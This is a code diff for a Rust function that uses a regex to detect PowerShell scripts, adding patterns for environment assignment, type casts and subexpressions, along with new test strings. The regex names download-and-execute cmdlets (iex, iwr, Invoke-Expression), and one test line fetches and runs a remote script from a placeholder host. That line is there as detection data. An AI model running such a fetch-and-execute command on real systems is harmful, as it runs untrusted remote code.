@@ -74,7 +74,7 @@ pub fn analyze_powershell(text: &str) -> Script {
 pub fn looks_like_powershell(text: &str) -> bool {
     static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
     RE.get_or_init(|| {
-        regex::Regex::new(r#"(?m)^\s*(\$[A-Za-z_]\w*(:\w+)?\s*[+-]?=\s|\[[A-Za-z][\w.]*\]::|&\s*["'$]|&\s+\S+\.(exe|ps1|cmd|bat)\b|(Get|Set|New|Remove|Add|Invoke|Start|Stop|Test|Write|Import|Export|Select|Where|ForEach|Out|Copy|Move|Clear|Enable|Disable|Install|Uninstall|Update|Register|Unregister|Expand|Compress|Resolve|Join|Split|ConvertTo|ConvertFrom|Measure|Sort|Format|Read|Wait|Push|Pop)-[A-Z][A-Za-z]+\b|(if|foreach|while|switch)\s*\([^(]|(iex|irm|iwr|Invoke-Expression)\b|\$PSVersionTable\b|\$ErrorActionPreference\b)"#)
+        regex::Regex::new(r#"(?m)^\s*(\$[A-Za-z_]\w*(:\w+)?\s*[+-]?=\s|\$env:\w+\s*[+-]?=|\[(int|string|bool|array|hashtable|switch|double|datetime)\]\$|\((Get|Set|New|Test|Select|Join|Split|Resolve|Convert\w*)-[A-Z]\w+[^)]*\)|\(git\s[^)]*\)\.\w+|\[[A-Za-z][\w.]*\]::|&\s*["'$]|&\s+\S+\.(exe|ps1|cmd|bat)\b|(Get|Set|New|Remove|Add|Invoke|Start|Stop|Test|Write|Import|Export|Select|Where|ForEach|Out|Copy|Move|Clear|Enable|Disable|Install|Uninstall|Update|Register|Unregister|Expand|Compress|Resolve|Join|Split|ConvertTo|ConvertFrom|Measure|Sort|Format|Read|Wait|Push|Pop)-[A-Z][A-Za-z]+\b|(if|foreach|while|switch)\s*\([^(]|(iex|irm|iwr|Invoke-Expression)\b|\$PSVersionTable\b|\$ErrorActionPreference\b)"#)
             .expect("static regex")
     })
     .is_match(text)
@@ -105,6 +105,9 @@ mod tests {
             "Get-ChildItem -Recurse -Filter *.log | Remove-Item",
             "if (Test-Path .\\build) { Remove-Item .\\build -Recurse }",
             "iex (iwr https://x.example/p.ps1)",
+            "$env:X=\"v\"; npm test",
+            "(Get-Content f.txt) -replace 'a','b' | Set-Content f.txt",
+            "[int]$n = 5",
         ] {
             assert!(looks_like_powershell(ps), "{ps}");
         }
